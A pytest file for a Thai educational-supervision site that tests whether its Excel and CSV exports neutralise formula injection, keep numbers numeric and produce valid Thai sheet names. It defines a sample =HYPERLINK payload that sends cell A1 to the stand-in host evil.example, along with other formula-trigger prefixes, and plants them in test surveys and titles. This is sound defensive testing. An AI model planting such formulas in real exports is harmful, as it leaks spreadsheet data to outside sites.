"""Every Excel and CSV download writes what users typed as text, never as a formula (issue 12,
finding 4), keeps numbers as numbers with a number format, and names sheets the way a Thai reader
expects (issue 14, finding 6). All exports go through nitet_online.services.exports."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from nitet_online.extensions import db
from nitet_online.knowledge.models import KnowledgeItem
from nitet_online.services import exports
from nitet_online.services.thai import today_bangkok
from nitet_online.stats.rollup import roll_up_pending
from nitet_online.surveys.models import ItemKind, Survey
from nitet_online.surveys.services import add_item, add_section
from tests.conftest import login
from tests.stats_data import insert_views, view
from tests.test_surveys import user

# A survey answer that leaks the sheet's first cell to another site when Excel evaluates it.
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")'
DANGEROUS = [EVIL, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1+1"]


# The writer ---------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_a_spreadsheet_would_run_is_neutralised(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["ดีมาก", "", "-", "4.18", "ครู=ผู้สอน", "'quoted"])
def test_ordinary_text_is_left_alone(text):
    assert exports.neutralise(text) == text


def _cells(raw: bytes) -> list:
    workbook = load_workbook(io.BytesIO(raw))
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]


def test_xlsx_cells_are_strings_and_numbers_keep_their_places():
    book = exports.Spreadsheet()
    sheet = book.add_sheet("ผล")
    sheet.append([EVIL, 5, Decimal("4.18"), Decimal("0.50"), 12.5, None, "-", "bell\x07 ok"])
    cells = _cells(book.to_bytes())[:8]
    evil, count, mean, sd, share, empty, dash, control = cells
    assert (evil.data_type, evil.value) == ("s", "'" + EVIL)
    assert (count.data_type, count.value) == ("n", 5)
    assert (mean.data_type, mean.value, mean.number_format) == ("n", 4.18, "0.00")
    assert (sd.value, sd.number_format) == (0.5, "0.00")  # shown 0.50, not 0.5
    assert (share.data_type, share.value, share.number_format) == ("n", 12.5, "0.0")
    assert empty.value is None
    assert (dash.data_type, dash.value) == ("s", "-")
    assert control.value == "bell ok"  # Excel refuses control characters in a cell


def test_csv_fields_start_with_a_quote_and_numbers_stay_numbers():
    raw = exports.csv_bytes([["ข้อความ", "จำนวน", "x̄"], [EVIL, 3, Decimal("4.18")]])
    assert raw.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1] == ["'" + EVIL, "3", "4.18"]


LONG_TITLE = "ความพึงพอใจต่อการใช้งานเว็บไซต์นิเทศ Online ของสำนักงานเขตพื้นที่"


def test_sheet_names_are_cut_at_a_thai_word_boundary():
    used: set[str] = set()
    name = exports.sheet_title(LONG_TITLE, used)
    assert len(name) <= 31
    assert name == "ความพึงพอใจต่อการใช้งานเว็บไซต์"  # not "…เว็บไซต" (a word cut in two)
    second = exports.sheet_title(LONG_TITLE, used)
    assert second != name and len(second) <= 31 and second.endswith("(2)")
    assert second.startswith("ความพึงพอใจต่อการใช้งาน")
    # Excel compares sheet names without regard to case.
    assert exports.sheet_title("Summary", used) == "Summary"
    assert exports.sheet_title("SUMMARY", used) == "SUMMARY (2)"


@pytest.mark.parametrize(
    "title",
    [
        "ผลการนิเทศ [ภาคเรียนที่ 1/2567]: ครู*โรงเรียน? \\ ห้อง",
        "'ชื่อในเครื่องหมาย'",
        "x" * 80,
        "   ",
        "History",
    ],
)
def test_sheet_names_are_ones_excel_accepts(title):
    used: set[str] = {"history"}
    name = exports.sheet_title(title, used)
    assert 0 < len(name) <= 31
    assert not re.search(r"[\[\]:*?/\\]", name)
    assert not name.startswith("'") and not name.endswith("'")
    assert name.casefold() != "history"
    book = exports.Spreadsheet()
    book.add_sheet(title)
    assert load_workbook(io.BytesIO(book.to_bytes())).sheetnames == [
        exports.sheet_title(title, set())
    ]


def test_every_export_goes_through_the_shared_writer():
    """A spreadsheet written anywhere else could forget to neutralise formulas."""
    package = Path(exports.__file__).parents[1]
    writers = re.compile(r"csv\.writer|DictWriter|openpyxl import .*\bWorkbook\b|Workbook\(")
    offenders = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if path.name != "exports.py" or path.parent.name != "services"
        if writers.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


# Every export endpoint ---------------------------------------------------------------------------
def _assert_neutralised_xlsx(raw: bytes, planted: list[str]) -> None:
    texts = [cell for cell in _cells(raw) if isinstance(cell.value, str)]
    for text in planted:
        found = [cell for cell in texts if text in cell.value]
        assert found, text
        for cell in found:
            assert cell.data_type == "s", (text, cell.data_type)
            assert cell.value.startswith("'"), cell.value
    assert not [cell for cell in _cells(raw) if cell.data_type == "f"]


@pytest.fixture
def evil_survey(demo_app):
    """A published survey whose every piece of user text looks like a formula, answered twice."""
    with demo_app.app_context():
        survey = Survey(title="=ประเมิน()", owner_id=user("supervisor1").id, is_published=True)
        db.session.add(survey)
        section = add_section(survey, "+ด้านเนื้อหา")
        rating = add_item(section, ItemKind.RATING, "-เนื้อหาเป็นประโยชน์")
        choice = add_item(section, ItemKind.SINGLE, "@สถานภาพ", options=["=ครู", "ผู้บริหาร"])
        comment = add_item(section, ItemKind.LONG_TEXT, "ข้อเสนอแนะ", required=False)
        db.session.commit()
        forms = [
            {f"item-{rating.id}": "5", f"item-{choice.id}": "0", f"item-{comment.id}": EVIL},
            {f"item-{rating.id}": "4", f"item-{choice.id}": "1", f"item-{comment.id}": "-"},
        ]
        survey_id = survey.id
    for form in forms:
        assert demo_app.test_client().post(f"/surveys/{survey_id}", data=form).status_code == 302
    return survey_id


def test_survey_results_xlsx_writes_answers_as_text(demo_app, evil_survey):
    client = demo_app.test_client()
    login(client, "supervisor1")
    response = client.get(f"/surveys/{evil_survey}/results.xlsx")
    assert response.status_code == 200
    planted = [EVIL, "=ประเมิน()", "+ด้านเนื้อหา", "-เนื้อหาเป็นประโยชน์", "@สถานภาพ", "=ครู"]
    _assert_neutralised_xlsx(response.data, planted)
    workbook = load_workbook(io.BytesIO(response.data))
    texts = [row[1] for row in workbook["ความคิดเห็น"].iter_rows(values_only=True)]
    assert "'" + EVIL in texts and "-" in texts  # a lone dash is how people write "nothing"
    summary = workbook["สรุปผล"]
    item_row = next(row for row in summary.iter_rows() if row[0].value == 1)
    n, mean, sd = item_row[2], item_row[3], item_row[4]
    assert (n.data_type, n.value) == ("n", 2)
    assert (mean.data_type, mean.value, mean.number_format) == ("n", 4.5, "0.00")
    assert (sd.data_type, sd.value, sd.number_format) == ("n", 0.71, "0.00")
    choice_row = next(r for r in workbook["ตัวเลือก"].iter_rows() if r[1].value == "'=ครู")
    assert (choice_row[2].value, choice_row[3].value, choice_row[3].number_format) == (
        1,
        50.0,
        "0.00",
    )


@pytest.fixture
def evil_knowledge(demo_app):
    """The top knowledge item of June 2024 is called like a formula."""
    with demo_app.app_context():
        item = db.session.get(KnowledgeItem, 5)
        item.title = EVIL
        db.session.commit()
        insert_views(
            [view(date(2024, 6, 3), "a", content_type="knowledge", content_id=5)],
        )
        roll_up_pending(today_bangkok())


JUNE = "from=2024-06-01&to=2024-06-30"


def test_stats_xlsx_export_of_every_table_writes_titles_as_text(demo_app, evil_knowledge):
    client = demo_app.test_client()
    login(client, "director1")
    response = client.get(f"/stats/export.xlsx?{JUNE}")
    assert response.status_code == 200
    _assert_neutralised_xlsx(response.data, [EVIL])
    names = load_workbook(io.BytesIO(response.data)).sheetnames
    assert len(names) == len({name.casefold() for name in names})
    assert all(len(name) <= 31 for name in names)
    # Cut between words, not inside one ("…เว็บไซต์บุค" was cut out of "บุคคล").
    assert "ความเคลื่อนไหวของเว็บไซต์บุคคล" in names
    single = client.get(f"/stats/export.xlsx?{JUNE}&table=knowledge_top")
    _assert_neutralised_xlsx(single.data, [EVIL])


def test_stats_csv_export_writes_titles_as_text(demo_app, evil_knowledge):
    client = demo_app.test_client()
    login(client, "admin")
    response = client.get(f"/stats/export.csv?{JUNE}&table=knowledge_top")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    row = next(row for row in rows if EVIL in "".join(row))
    assert row[2] == "'" + EVIL
    assert row[0] == "1" and row[3] == "1"  # rank and views stay plain numbers


def test_stats_survey_table_has_numbers_not_text(demo_app, evil_survey):
    client = demo_app.test_client()
    login(client, "director1")
    today = today_bangkok().isoformat()
    query = f"from={today}&to={today}&table=survey_results"
    response = client.get(f"/stats/export.xlsx?{query}")
    _assert_neutralised_xlsx(response.data, ["=ประเมิน()"])
    sheet = load_workbook(io.BytesIO(response.data)).active
    row = next(r for r in sheet.iter_rows() if r[0].value == "'=ประเมิน()")
    count, mean, sd = row[2], row[3], row[4]
    assert (count.data_type, count.value) == ("n", 2)
    assert (mean.data_type, mean.value, mean.number_format) == ("n", 4.5, "0.00")
    assert (sd.data_type, sd.value, sd.number_format) == ("n", 0.71, "0.00")
    exported = client.get(f"/stats/export.csv?{query}").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported)))
    assert rows[1][0] == "'=ประเมิน()"
    assert rows[1][2:5] == ["2", "4.50", "0.71"]
    # The page and the API still show two places.
    page = client.get(f"/stats?from={today}&to={today}").get_data(as_text=True)
    assert "4.50" in page and "0.71" in page
    api = client.get(f"/api/v1/stats/summary?from={today}&to={today}").get_json()
    rows = api["indicators"]["survey_results"]["tables"][0]["rows"]
    assert rows[0][3:5] == ["4.50", "0.71"]


def test_import_template_csv_goes_through_the_writer(demo_client, monkeypatch):
    from nitet_online.admin import views as admin_views

    monkeypatch.setitem(admin_views.TEMPLATE_ROWS, "schools", [["code", "name"], ["1", EVIL]])
    login(demo_client, "admin")
    response = demo_client.get("/admin/import/schools/template.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows == [["code", "name"], ["1", "'" + EVIL]]
